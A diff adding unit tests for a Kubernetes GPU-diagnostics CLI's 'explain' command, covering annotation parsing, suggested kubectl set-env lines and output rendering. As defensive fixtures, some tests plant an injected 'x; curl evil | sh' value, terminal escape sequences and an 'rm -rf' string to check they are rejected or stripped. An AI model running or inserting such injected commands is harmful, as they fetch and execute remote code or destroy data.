@@ -1,0 +1,208 @@
+"""`gpu-auditor explain`: the reading of a pod's annotations, Events and node report (pure).
+
+The annotations are written here by the operator's own writer (`controller.annotations`) from
+a real diagnosis of an example log, so the reader is held to what the operator writes; the
+node report goes through the agent's writer and the base's parser the same way.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from gpu_auditor.base.contract import Allocated
+from gpu_auditor.base.nodereport import Gpu, NodeReport, PodEntry, parse_report, to_body, to_spec
+from gpu_auditor.commands import explaintext
+from gpu_auditor.commands.explanation import explain
+from gpu_auditor.controller import annotations as writer
+from gpu_auditor.controller.pod import Termination, parse_pod
+from gpu_auditor.diagnosis import diagnose_stream
+
+pytestmark = pytest.mark.unit
+
+ROOT = Path(__file__).resolve().parents[2]
+LOGS = ROOT / "examples" / "logs"
+PREFIX = "gpu-auditor.io/"
+UID, OTHER_UID = "11111111-2222-3333-4444-555555555555", "99999999-2222-3333-4444-555555555555"
+GIB = 2**30
+
+
+def _pod(annotations: dict[str, str], *, owners: list[dict[str, Any]] | None = None,
+         env: list[dict[str, str]] | None = None) -> dict[str, Any]:
+    return {
+        "metadata": {"namespace": "ml", "name": "finetune-7b-abc12", "uid": UID,
+                     "annotations": annotations, "ownerReferences": owners or []},
+        "spec": {"nodeName": "gpu-node-1",
+                 "containers": [{"name": "main", "env": env or []}]},
+        "status": {"phase": "Failed"},
+    }
+
+
+def _written(log: str, pod: dict[str, Any] | None = None) -> dict[str, str]:
+    with open(LOGS / log, "rb") as f:
+        diagnosis = diagnose_stream(f)
+    termination = Termination(container="main", restart_count=0, reason="Error", exit_code=1,
+                              message="", finished_at=None, previous=False)
+    typed = parse_pod(pod or _pod({}), PREFIX)
+    written = writer.diagnosis_annotations(
+        diagnosis, termination, typed, prefix=PREFIX, previous_keys=[], source="log",
+        now=dt.datetime(2026, 12, 1, 4, 0, tzinfo=dt.UTC))
+    return {k: v for k, v in written.annotations.items() if v is not None}
+
+
+def _report(*entries: PodEntry, used: int = 100 * GIB) -> NodeReport:
+    gpu = Gpu(uuid="GPU-aaaa", index=0, model="NVIDIA H200", total_bytes=140 * GIB,
+              used_bytes=used, free_bytes=140 * GIB - used, pods=entries)
+    return parse_report(to_body(to_spec(NodeReport(node="gpu-node-1", gpus=(gpu,),
+                                                   generated_at="2026-12-01T04:00:00Z"))))
+
+
+def test_a_fragmentation_diagnosis_reads_back_whole_with_every_action_in_order() -> None:
+    notes = _written("fragmentation.log")
+    e = explain(_pod(notes), events=[], owners=(), report=None, report_note="")
+    assert e.diagnosis is not None
+    assert e.diagnosis.kind == "fragmentation"
+    assert list(e.diagnosis.actions) == json.loads(notes[f"{PREFIX}actions"])
+    assert e.diagnosis.figures.requested_bytes == round(4.2 * GIB)
+    text = explaintext.render(e)
+    for n, action in enumerate(e.diagnosis.actions, 1):
+        assert f"  {n}. {action}" in text
+    assert "requested" in text and "4.20 GiB" in text
+
+
+def test_the_setting_is_a_set_env_line_for_the_deployment_not_its_replicaset() -> None:
+    notes = _written("fragmentation.log")
+    owners = ("ReplicaSet/finetune-7b-5d9f", "Deployment/finetune-7b")
+    e = explain(_pod(notes), events=[], owners=owners, report=None, report_note="")
+    assert e.setting is not None
+    assert e.setting.set_env_command == (
+        "kubectl -n ml set env deployment/finetune-7b -c main "
+        "PYTORCH_CUDA_ALLOC_CONF='expandable_segments:True'")
+    assert '- name: PYTORCH_CUDA_ALLOC_CONF\n        value: "expandable_segments:True"' in \
+        e.setting.yaml
+    assert "owned by Deployment/finetune-7b <- ReplicaSet/finetune-7b-5d9f" in \
+        explaintext.render(e)
+
+
+def test_the_setting_keeps_the_variable_the_container_already_sets() -> None:
+    pod = _pod({}, env=[{"name": "PYTORCH_ALLOC_CONF", "value": "max_split_size_mb:64"}])
+    e = explain(_pod(_written("fragmentation.log"), env=pod["spec"]["containers"][0]["env"]),
+                events=[], owners=(), report=None, report_note="")
+    assert e.setting is not None and e.setting.variable == "PYTORCH_ALLOC_CONF"
+    assert e.setting.set_env_command == ""  # a bare pod: its env cannot change
+    assert "recreate it with:" in explaintext.render(e)
+
+
+def test_other_processes_of_the_message_are_named_by_the_node_reports_pids() -> None:
+    notes = _written("gpu-shared.log")
+    e0 = explain(_pod(notes), events=[], owners=(), report=None, report_note="")
+    assert e0.diagnosis is not None and e0.diagnosis.figures.other_processes
+    pid = e0.diagnosis.figures.other_processes[0].pid
+    report = _report(
+        PodEntry("ml", "finetune-7b-abc12", UID, "main", Allocated.TRUE, 10 * GIB, (4242,)),
+        PodEntry("ml", "notebook-1", OTHER_UID, "lab", Allocated.FALSE, 80 * GIB, (pid,)))
+    e = explain(_pod(notes), events=[], owners=(), report=report, report_note="GPUNodeReport x")
+    assert e.diagnosis is not None
+    assert e.diagnosis.figures.other_processes[0].pod == "ml/notebook-1"
+    (gpu,) = e.gpus
+    assert [(t.pod, t.this_pod) for t in gpu.tenants] == [
+        ("ml/notebook-1", False), ("ml/finetune-7b-abc12", True)]
+    assert gpu.unattributed_bytes == 10 * GIB
+    text = explaintext.render(e)
+    assert f"pid {pid}: pod ml/notebook-1" in text
+    assert "ml/notebook-1 [lab]: NOT allocated this GPU" in text
+    assert "10.00 GiB  in no pod the report lists" in text
+
+
+def test_a_gpu_the_pod_is_not_on_is_not_listed() -> None:
+    report = _report(PodEntry("x", "y", OTHER_UID, "c", Allocated.TRUE, GIB, (7,)))
+    e = explain(_pod(_written("capacity.log")), events=[], owners=(), report=report,
+                report_note="r")
+    assert e.gpus == ()
+
+
+def test_escape_sequences_in_annotations_never_reach_the_terminal() -> None:
+    notes = _written("fragmentation.log")
+    notes[f"{PREFIX}summary"] = "ok\x1b]0;pwned\x07\nFAKE: line\x1b[2J"
+    notes[f"{PREFIX}actions"] = json.dumps(["run \x1b[31mrm -rf\x1b[0m"])
+    text = explaintext.render(explain(_pod(notes), events=[], owners=(), report=None,
+                                      report_note=""))
+    assert "\x1b" not in text and "\x07" not in text
+    assert "\nFAKE: line" not in text
+
+
+def test_annotations_that_are_not_json_are_said_not_guessed() -> None:
+    notes = _written("fragmentation.log")
+    notes[f"{PREFIX}evidence"] = "{not json"
+    notes[f"{PREFIX}actions"] = '{"a": 1}'
+    e = explain(_pod(notes), events=[], owners=(), report=None, report_note="")
+    assert e.diagnosis is not None and e.diagnosis.actions == ()
+    assert "the evidence annotation is not valid JSON; not shown" in e.notes
+    assert "the actions annotation is not a JSON list; not shown" in e.notes
+
+
+def test_a_forged_recommendation_gets_no_snippet_and_says_why() -> None:
+    notes = _written("fragmentation.log")
+    notes[f"{PREFIX}recommended-alloc-conf"] = "x; curl evil | sh"
+    e = explain(_pod(notes), events=[], owners=("Deployment/d",), report=None, report_note="")
+    assert e.setting is None
+    assert e.setting_withheld.startswith("the recommended value 'x; curl evil | sh' does not")
+    assert "kubectl" not in explaintext.render(e).split("No setting offered")[1]
+
+
+def test_only_the_operators_events_about_this_pod_are_shown_oldest_first() -> None:
+    events = [
+        {"source": {"component": "gpu-auditor"}, "involvedObject": {"uid": UID},
+         "type": "Warning", "reason": "CUDAOutOfMemory", "message": "second",
+         "lastTimestamp": "2026-12-01T04:02:00Z"},
+        {"source": {"component": "kubelet"}, "involvedObject": {"uid": UID},
+         "type": "Normal", "reason": "Pulled", "message": "not ours",
+         "lastTimestamp": "2026-12-01T04:00:00Z"},
+        {"source": {"component": "gpu-auditor"}, "involvedObject": {"uid": OTHER_UID},
+         "reason": "CUDAOutOfMemory", "message": "another pod's",
+         "lastTimestamp": "2026-12-01T04:00:00Z"},
+        {"reportingComponent": "gpu-auditor.io/operator", "involvedObject": {"uid": UID},
+         "type": "Warning", "reason": "UnintendedGPUSharing", "message": "first",
+         "lastTimestamp": "2026-12-01T04:01:00Z", "count": 3},
+    ]
+    e = explain(_pod({}), events=events, owners=(), report=None, report_note="")
+    assert [ev.message for ev in e.events] == ["first", "second"]
+    assert "UnintendedGPUSharing (x3): first" in explaintext.render(e)
+
+
+def test_a_pod_without_a_diagnosis_says_so() -> None:
+    e = explain(_pod({"other.io/x": "y"}), events=[], owners=(), report=None,
+                report_note="unknown: x")
+    assert e.diagnosis is None and e.sharing is None
+    assert "No gpu-auditor diagnosis on this pod" in explaintext.render(e)
+
+
+def test_json_output_is_the_whole_explanation_in_bytes() -> None:
+    report = _report(PodEntry("ml", "finetune-7b-abc12", UID, "main", Allocated.TRUE, 10 * GIB))
+    e = explain(_pod(_written("fragmentation.log")), events=[], owners=("Job/j",),
+                report=report, report_note="r")
+    data = json.loads(json.dumps(explaintext.to_json(e)))
+    assert data["diagnosis"]["kind"] == "fragmentation"
+    assert data["owners"] == ["Job/j"]
+    assert data["gpus"][0]["tenants"][0]["allocated"] == "true"
+    assert data["gpus"][0]["unattributed_bytes"] == 90 * GIB
+    assert data["setting"]["set_env_command"] == ""  # a Job's pod template is immutable
+    assert data["setting"]["no_command"].startswith("a Job's pod template cannot change")
+
+
+def test_a_cronjobs_job_gets_the_cronjob_and_a_custom_kind_its_own_spec() -> None:
+    notes = _written("fragmentation.log")
+    e = explain(_pod(notes), events=[], owners=("Job/nightly-29", "CronJob/nightly"),
+                report=None, report_note="")
+    assert e.setting is not None
+    assert e.setting.set_env_command == (
+        "kubectl -n ml set env cronjob/nightly -c main "
+        "PYTORCH_CUDA_ALLOC_CONF='expandable_segments:True'")
+    e = explain(_pod(notes), events=[], owners=("PyTorchJob/llm",), report=None, report_note="")
+    assert e.setting is not None and e.setting.set_env_command == ""
+    assert "to PyTorchJob/llm: edit the pod template in the PyTorchJob's spec:" in \
+        explaintext.render(e)
